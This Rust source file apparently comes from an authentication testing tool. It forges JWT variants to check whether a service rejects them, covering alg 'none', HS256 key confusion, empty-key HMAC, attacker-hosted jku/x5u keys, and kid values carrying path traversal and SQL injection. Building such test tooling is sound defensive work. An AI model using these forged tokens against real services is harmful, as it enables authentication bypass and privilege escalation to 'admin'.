//! JWTs: minted from the profile's key and claims, then spoiled in every way
//! RFC 8725 and the JWT attack literature describe.

use std::sync::{Arc, OnceLock};

use authbench_scenarios::case::{JwtCredential, JwtMutation};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use hmac::{KeyInit, Mac};
use jsonwebtoken::jwk::Jwk;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Map, Value, json};

use super::attacker::{ATTACKER_KID, Attacker};
use crate::client::callback::Callback;
use crate::methods::forge::{ALNUM, Skip, random_string};
use crate::methods::jwt::JwtTarget;
use crate::profile::SigningKey;

/// Where attacker-controlled key URLs point: a reserved name that never resolves.
pub const ATTACKER_URL: &str = "https://attacker.authbench.invalid";

/// Builds tokens for one `[jwt]` section.
#[derive(Debug)]
pub struct JwtForge {
    target: JwtTarget,
    header_template: Map<String, Value>,
    claims_template: Map<String, Value>,
    attacker: OnceLock<Option<Attacker>>,
    /// The run's out-of-band listener, where the attacker hosts its key.
    callback: Option<Arc<Callback>>,
}

fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs() as i64)
}

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn decode_segment(token: &str, index: usize) -> Option<Map<String, Value>> {
    let segment = token.split('.').nth(index)?;
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(segment).ok()?).ok()
}

pub use crate::profile::alg_name;

pub use super::relative_time::relative_time;

fn toml_to_json(value: &toml::Value) -> Value {
    serde_json::to_value(value).unwrap_or(Value::Null)
}

impl JwtForge {
    /// A forge for `target`: header and claims modelled on the profile's token when it has one.
    pub fn new(target: JwtTarget) -> Self {
        let from_token = |i| target.token.as_deref().and_then(|t| decode_segment(t, i));
        let mut header = Map::new();
        header.insert("alg".into(), json!(alg_name(target.algorithm)));
        match from_token(0) {
            Some(h) => {
                for key in ["typ", "kid"] {
                    if let Some(v) = h.get(key) {
                        header.insert(key.into(), v.clone());
                    }
                }
            }
            None => {
                header.insert("typ".into(), json!("at+jwt"));
            }
        }
        let mut claims = from_token(1).unwrap_or_default();
        claims.insert("iss".into(), json!(target.issuer));
        claims.insert("aud".into(), json!(target.audience));
        match &target.subject {
            Some(subject) => {
                claims.insert("sub".into(), json!(subject));
            }
            None => {
                claims.entry("sub").or_insert_with(|| json!("authbench"));
            }
        }
        if let Some(scope) = &target.required_scope {
            claims.entry("scope").or_insert_with(|| json!(scope));
        }
        JwtForge {
            target,
            header_template: header,
            claims_template: claims,
            attacker: OnceLock::new(),
            callback: None,
        }
    }

    /// The claims every minted token starts from (for tests).
    #[cfg(test)]
    pub(crate) fn claims_template(&self) -> &Map<String, Value> {
        &self.claims_template
    }

    fn key(&self) -> Result<&SigningKey, Skip> {
        self.target.signing_key.as_ref().ok_or_else(|| {
            Skip("the profile's [jwt] has no signing_key_file, so validly signed variants cannot be minted".to_owned())
        })
    }

    fn fresh_claims(&self) -> Map<String, Value> {
        let now = now();
        let mut claims = self.claims_template.clone();
        claims.insert("iat".into(), json!(now));
        claims.insert("nbf".into(), json!(now));
        claims.insert("exp".into(), json!(now + 300));
        claims.insert("jti".into(), json!(format!("authbench-{}", random_string(ALNUM, 22))));
        claims
    }

    /// A valid token: the profile's, or one minted with its key.
    pub fn valid_token(&self) -> Result<String, Skip> {
        self.valid_token_inner()
    }

    /// The resource URL this forge's tokens are for.
    pub fn url(&self) -> &url::Url {
        &self.target.url
    }

    /// The algorithm the resource accepts.
    pub fn algorithm(&self) -> Algorithm {
        self.target.algorithm
    }

    /// A token of this resource's header and fresh claims with `header` and
    /// `claims` members set to the given JSON (any type, null included),
    /// validly signed with the profile's key.
    pub fn signed_edited(
        &self,
        header: &[(&str, Value)],
        claims: &[(&str, Value)],
    ) -> Result<String, Skip> {
        let mut h = self.header_template.clone();
        let mut c = self.fresh_claims();
        for (name, value) in header {
            h.insert((*name).to_owned(), value.clone());
        }
        for (name, value) in claims {
            c.insert((*name).to_owned(), value.clone());
        }
        self.sign(&h, &c)
    }

    /// This resource's header over `payload` exactly as given (not
    /// necessarily JSON), validly signed with the profile's key.
    pub fn signed_payload(&self, payload: &str) -> Result<String, Skip> {
        let key = self.key()?;
        sign_json(&text(&self.header_template), payload, &key.encoding, key.algorithm)
    }

    /// The profile's issuer and audience, as minted tokens carry them.
    pub fn issuer_audience(&self) -> (&str, &str) {
        (&self.target.issuer, &self.target.audience)
    }

    /// A token of this resource's header and fresh claims, `alg: HS256`,
    /// MACed with `secret`.
    pub fn hs256_with(&self, secret: &[u8]) -> String {
        let mut header = self.header_template.clone();
        header.insert("alg".into(), json!("HS256"));
        hmac_sign(&text(&header), &text(&self.fresh_claims()), secret)
    }

    fn valid_token_inner(&self) -> Result<String, Skip> {
        match &self.target.token {
            Some(t) => Ok(t.clone()),
            None => self.sign(&self.header_template, &self.fresh_claims()),
        }
    }

    fn sign(
        &self,
        header: &Map<String, Value>,
        claims: &Map<String, Value>,
    ) -> Result<String, Skip> {
        let key = self.key()?;
        sign_json(
            &Value::Object(header.clone()).to_string(),
            &Value::Object(claims.clone()).to_string(),
            &key.encoding,
            key.algorithm,
        )
    }

    fn attacker(&self) -> Result<&Attacker, Skip> {
        self.attacker
            .get_or_init(|| Attacker::new(self.target.algorithm))
            .as_ref()
            .ok_or_else(|| Skip("could not generate an attacker key".to_owned()))
    }

    /// Where the attacker hosts `body` as `name`: on the run's out-of-band
    /// listener when there is one (so a target that fetches it finds it),
    /// else under a name that never resolves.
    fn hosted(&self, name: &str, content_type: &'static str, body: Vec<u8>) -> String {
        match &self.callback {
            Some(callback) => callback.publish(name, content_type, body).to_string(),
            None => format!("{ATTACKER_URL}/{}", name.rsplit('/').next().unwrap_or(name)),
        }
    }

    /// Hosts the attacker's key set and certificate on `callback` from now on.
    pub fn set_callback(&mut self, callback: Option<Arc<Callback>>) {
        self.callback = callback;
    }

    /// Forges the token `spec` describes.
    pub fn forge(&self, spec: &JwtCredential) -> Result<String, Skip> {
        let now = now();
        let mut header = self.header_template.clone();
        let mut claims = self.fresh_claims();
        for (name, value) in &spec.header {
            header.insert(name.clone(), toml_to_json(value));
        }
        for (name, value) in &spec.claims {
            let json = match (name.as_str(), value) {
                ("exp" | "nbf" | "iat", toml::Value::String(s)) => {
                    json!(relative_time(s, now, self.target.leeway_seconds).ok_or_else(|| Skip(
                        format!("`{s}` is not a relative time (now, -1h, +30s, -leeway-1s)")
                    ))?)
                }
                _ => self.substitute(toml_to_json(value)),
            };
            claims.insert(name.clone(), json);
        }
        for name in &spec.remove {
            claims.remove(name);
        }
        let Some(mutation) = spec.mutation else { return self.sign(&header, &claims) };
        Ok(match mutation {
            JwtMutation::AlgNone
            | JwtMutation::AlgNoneCapitalized
            | JwtMutation::AlgNoneUpper
            | JwtMutation::AlgNoneMixed => {
                let spelled = match mutation {
                    JwtMutation::AlgNone => "none",
                    JwtMutation::AlgNoneCapitalized => "None",
                    JwtMutation::AlgNoneUpper => "NONE",
                    _ => "nOnE",
                };
                header.insert("alg".into(), json!(spelled));
                header.remove("kid");
                format!("{}.{}.", b64(text(&header).as_bytes()), b64(text(&claims).as_bytes()))
            }
            JwtMutation::SignatureStripped => {
                let t = self.signed(&header, &claims)?;
                format!("{}.", &t[..t.rfind('.').unwrap_or(t.len())])
            }
            JwtMutation::SignatureFlipped => {
                let t = self.signed(&header, &claims)?;
                let (input, sig) = t
                    .rsplit_once('.')
                    .ok_or_else(|| Skip("the profile's token is not a JWS".into()))?;
                let mut bytes = URL_SAFE_NO_PAD
                    .decode(sig)
                    .map_err(|_| Skip("the profile's token has a bad signature".into()))?;
                if let Some(b) = bytes.first_mut() {
                    *b ^= 0x01;
                }
                format!("{input}.{}", b64(&bytes))
            }
            JwtMutation::SignatureTruncated => {
                let t = self.signed(&header, &claims)?;
                t[..t.len().saturating_sub(4)].to_owned()
            }
            JwtMutation::HeaderTampered => {
                let t = self.signed(&header, &claims)?;
                let (_, rest) = t
                    .split_once('.')
                    .ok_or_else(|| Skip("the profile's token is not a JWS".into()))?;
                let mut edited = decode_segment(&t, 0).unwrap_or_default();
                edited.insert("authbench".into(), json!("header edited after signing"));
                format!("{}.{rest}", b64(Value::Object(edited).to_string().as_bytes()))
            }
            JwtMutation::PayloadTampered => {
                let t = self.signed(&header, &claims)?;
                let parts: Vec<&str> = t.split('.').collect();
                let mut tampered = decode_segment(&t, 1).unwrap_or_default();
                tampered.insert("sub".into(), json!("admin"));
                let scope = tampered.get("scope").and_then(Value::as_str).unwrap_or("").to_owned();
                tampered.insert("scope".into(), json!(format!("{scope} admin").trim()));
                format!(
                    "{}.{}.{}",
                    parts[0],
                    b64(Value::Object(tampered).to_string().as_bytes()),
                    parts.get(2).unwrap_or(&"")
                )
            }
            JwtMutation::Hs256PublicPem | JwtMutation::Hs256PublicJwk => {
                let key = self.key()?;
                let pem = key.public_pem.clone().ok_or_else(|| {
                    Skip(
                        "key confusion needs an asymmetric signing key (the target uses HMAC)"
                            .to_owned(),
                    )
                })?;
                let secret = if mutation == JwtMutation::Hs256PublicPem {
                    pem.into_bytes()
                } else {
                    public_jwk_text(&key.encoding, key.algorithm)?.into_bytes()
                };
                header.insert("alg".into(), json!("HS256"));
                hmac_sign(&text(&header), &text(&claims), &secret)
            }
            JwtMutation::Hs256EmptyKey => {
                header.insert("alg".into(), json!("HS256"));
                hmac_sign(&text(&header), &text(&claims), b"")
            }
            JwtMutation::SelfSignedX5c => {
                let attacker = self.attacker()?;
                header.insert("alg".into(), json!(alg_name(attacker.alg())));
                header.insert("kid".into(), json!(ATTACKER_KID));
                header.insert("x5c".into(), json!([attacker.certificate_b64()]));
                sign_json(&text(&header), &text(&claims), attacker.key(), attacker.alg())?
            }
            JwtMutation::JsonSerialization => {
                let t = self.signed(&header, &claims)?;
                let parts: Vec<&str> = t.split('.').collect();
                json!({ "protected": parts[0], "payload": parts.get(1), "signature": parts.get(2) })
                    .to_string()
            }
            JwtMutation::EcdsaZeroSignature => {
                let size = match self.target.algorithm {
                    Algorithm::ES256 => 64,
                    Algorithm::ES384 => 96,
                    _ => return Err(Skip("r = s = 0 applies to ECDSA resources only".to_owned())),
                };
                format!(
                    "{}.{}.{}",
                    b64(text(&header).as_bytes()),
                    b64(text(&claims).as_bytes()),
                    b64(&vec![0u8; size])
                )
            }
            JwtMutation::JweShaped => {
                let jwe_header =
                    json!({ "alg": "RSA-OAEP", "enc": "A256GCM", "typ": "at+jwt" }).to_string();
                let junk = |n: usize| b64(random_string(ALNUM, n).as_bytes());
                format!(
                    "{}.{}.{}.{}.{}",
                    b64(jwe_header.as_bytes()),
                    junk(256),
                    junk(12),
                    junk(64),
                    junk(16)
                )
            }
            JwtMutation::EmbeddedJwk | JwtMutation::JkuElsewhere | JwtMutation::X5uElsewhere => {
                let attacker = self.attacker()?;
                header.insert("alg".into(), json!(alg_name(attacker.alg())));
                header.insert("kid".into(), json!(ATTACKER_KID));
                let (member, value) = match mutation {
                    JwtMutation::EmbeddedJwk => {
                        ("jwk", serde_json::to_value(attacker.jwk()).unwrap_or(Value::Null))
                    }
                    JwtMutation::JkuElsewhere => (
                        "jku",
                        json!(self.hosted(
                            "jku/jwks.json",
                            "application/json",
                            attacker.jwks_json()
                        )),
                    ),
                    _ => (
                        "x5u",
                        json!(self.hosted(
                            "x5u/cert.pem",
                            "application/pem-certificate-chain",
                            attacker.certificate_pem()
                        )),
                    ),
                };
                // A case may name its own URL (the fetch watch does).
                header.entry(member).or_insert(value);
                sign_json(&text(&header), &text(&claims), attacker.key(), attacker.alg())?
            }
            JwtMutation::KidTraversal => {
                header.insert("alg".into(), json!("HS256"));
                header.insert("kid".into(), json!("../../../../../../../../dev/null"));
                hmac_sign(&text(&header), &text(&claims), b"")
            }
            JwtMutation::KidInjection => {
                header.insert("alg".into(), json!("HS256"));
                header.insert("kid".into(), json!("authbench' UNION SELECT 'authbench' -- "));
                hmac_sign(&text(&header), &text(&claims), b"authbench")
            }
            JwtMutation::TwoSegments => {
                let t = self.signed(&header, &claims)?;
                t.split('.').take(2).collect::<Vec<_>>().join(".")
            }
            JwtMutation::FourSegments => {
                let t = self.signed(&header, &claims)?;
                let sig = t.rsplit('.').next().unwrap_or_default().to_owned();
                format!("{t}.{sig}")
            }
            JwtMutation::PaddedSegments => {
                let t = self.signed(&header, &claims)?;
                let parts: Vec<&str> = t.split('.').collect();
                format!(
                    "{}=.{}=.{}",
                    parts[0],
                    parts.get(1).unwrap_or(&""),
                    parts.get(2).unwrap_or(&"")
                )
            }
            JwtMutation::StandardBase64 => self.standard_alphabet(&header, &claims)?,
            JwtMutation::Whitespace => {
                let t = self.signed(&header, &claims)?;
                let mid = t.find('.').map_or(t.len() / 2, |i| i + 4);
                format!("{} {}", &t[..mid], &t[mid..])
            }
            JwtMutation::Oversized => {
                claims.insert("authbench_padding".into(), json!("A".repeat(16 * 1024)));
                self.sign(&header, &claims).or_else(|_| {
                    let t = self.valid_token()?;
                    Ok::<_, Skip>(format!("{t}{}", "A".repeat(16 * 1024)))
                })?
            }
            JwtMutation::ExpAsString => {
                let exp = claims.get("exp").and_then(Value::as_i64).unwrap_or(now + 300);
                claims.insert("exp".into(), json!(exp.to_string()));
                self.sign(&header, &claims)?
            }
            JwtMutation::DuplicateSub => {
                let original = text(&claims);
                let doubled = format!("{{\"sub\":\"admin\",{}", &original[1..]);
                let key = self.key()?;
                sign_json(&text(&header), &doubled, &key.encoding, key.algorithm)?
            }
            JwtMutation::DuplicateAlg => {
                let original = text(&header);
                let doubled = format!("{{\"alg\":\"none\",{}", &original[1..]);
                let key = self.key()?;
                sign_json(&doubled, &text(&claims), &key.encoding, key.algorithm)?
            }
            JwtMutation::OtherAlgorithm => {
                let (alg, key) = self
                    .target
                    .variants
                    .iter()
                    .find_map(|(alg, _, key)| {
                        key.as_ref().filter(|_| *alg != self.target.algorithm).map(|k| (*alg, k))
                    })
                    .ok_or_else(|| {
                        Skip(
                            "the profile gives no key of another algorithm ([[jwt.variants]])"
                                .to_owned(),
                        )
                    })?;
                header.insert("alg".into(), json!(alg_name(alg)));
                header.remove("kid");
                sign_json(&text(&header), &text(&claims), &key.encoding, alg)?
            }
        })
    }

    /// Signed with the profile's key, or the profile's token when there is no key.
    fn signed(
        &self,
        header: &Map<String, Value>,
        claims: &Map<String, Value>,
    ) -> Result<String, Skip> {
        self.sign(header, claims).or_else(|_| self.valid_token())
    }

    fn substitute(&self, value: Value) -> Value {
        match value {
            Value::String(s) if s == "$audience" => json!(self.target.audience),
            Value::String(s) if s == "$issuer" => json!(self.target.issuer),
            Value::Array(items) => {
                Value::Array(items.into_iter().map(|v| self.substitute(v)).collect())
            }
            other => other,
        }
    }

    /// A validly signed token re-encoded in the standard base64 alphabet with
    /// padding: padding a header member until the encoding differs.
    fn standard_alphabet(
        &self,
        header: &Map<String, Value>,
        claims: &Map<String, Value>,
    ) -> Result<String, Skip> {
        let key = self.key()?;
        for pad in ["", "?", "??", "???", ">>>", "~~~"] {
            let mut header = header.clone();
            if !pad.is_empty() {
                header.insert("authbench".into(), json!(pad));
            }
            let h = Value::Object(header).to_string();
            let c = Value::Object(claims.clone()).to_string();
            let input = format!("{}.{}", STANDARD.encode(&h), STANDARD.encode(&c));
            let url_input = format!("{}.{}", b64(h.as_bytes()), b64(c.as_bytes()));
            if input != url_input {
                let sig =
                    jsonwebtoken::crypto::sign(input.as_bytes(), &key.encoding, key.algorithm)
                        .map_err(|e| Skip(format!("signing failed: {e}")))?;
                let sig = STANDARD.encode(URL_SAFE_NO_PAD.decode(&sig).unwrap_or_default());
                return Ok(format!("{input}.{sig}"));
            }
        }
        Err(Skip("could not produce a token that differs in the standard alphabet".to_owned()))
    }
}

fn text(map: &Map<String, Value>) -> String {
    Value::Object(map.clone()).to_string()
}

/// Signs raw header and payload JSON text.
pub fn sign_json(
    header: &str,
    claims: &str,
    key: &EncodingKey,
    alg: Algorithm,
) -> Result<String, Skip> {
    let input = format!("{}.{}", b64(header.as_bytes()), b64(claims.as_bytes()));
    let sig = jsonwebtoken::crypto::sign(input.as_bytes(), key, alg)
        .map_err(|e| Skip(format!("signing failed: {e}")))?;
    Ok(format!("{input}.{sig}"))
}

/// HS256 over raw JSON with any key, including the empty one jsonwebtoken refuses.
pub fn hmac_sign(header: &str, claims: &str, secret: &[u8]) -> String {
    let input = format!("{}.{}", b64(header.as_bytes()), b64(claims.as_bytes()));
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(secret)
        .unwrap_or_else(|_| unreachable!("HMAC accepts keys of any length"));
    mac.update(input.as_bytes());
    format!("{input}.{}", b64(&mac.finalize().into_bytes()))
}

/// The public JWK of `key` in RFC 7638 canonical member order (the form a
/// confused verifier would most likely have as text).
pub(crate) fn public_jwk_text(key: &EncodingKey, alg: Algorithm) -> Result<String, Skip> {
    let jwk = Jwk::from_encoding_key(key, alg)
        .map_err(|e| Skip(format!("cannot derive the public JWK: {e}")))?;
    let value = serde_json::to_value(&jwk).unwrap_or(Value::Null);
    let members: &[&str] = match value.get("kty").and_then(Value::as_str) {
        Some("RSA") => &["e", "kty", "n"],
        Some("EC") => &["crv", "kty", "x", "y"],
        _ => &["crv", "kty", "x"],
    };
    let parts: Vec<String> = members
        .iter()
        .map(|m| format!("\"{m}\":{}", value.get(*m).cloned().unwrap_or(Value::Null)))
        .collect();
    Ok(format!("{{{}}}", parts.join(",")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_key_hmac_verifies_with_an_empty_key() {
        let token = hmac_sign("{\"alg\":\"HS256\"}", "{}", b"");
        let (input, sig) = token.rsplit_once('.').unwrap();
        let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(b"").unwrap();
        mac.update(input.as_bytes());
        mac.verify_slice(&URL_SAFE_NO_PAD.decode(sig).unwrap()).unwrap();
    }
}
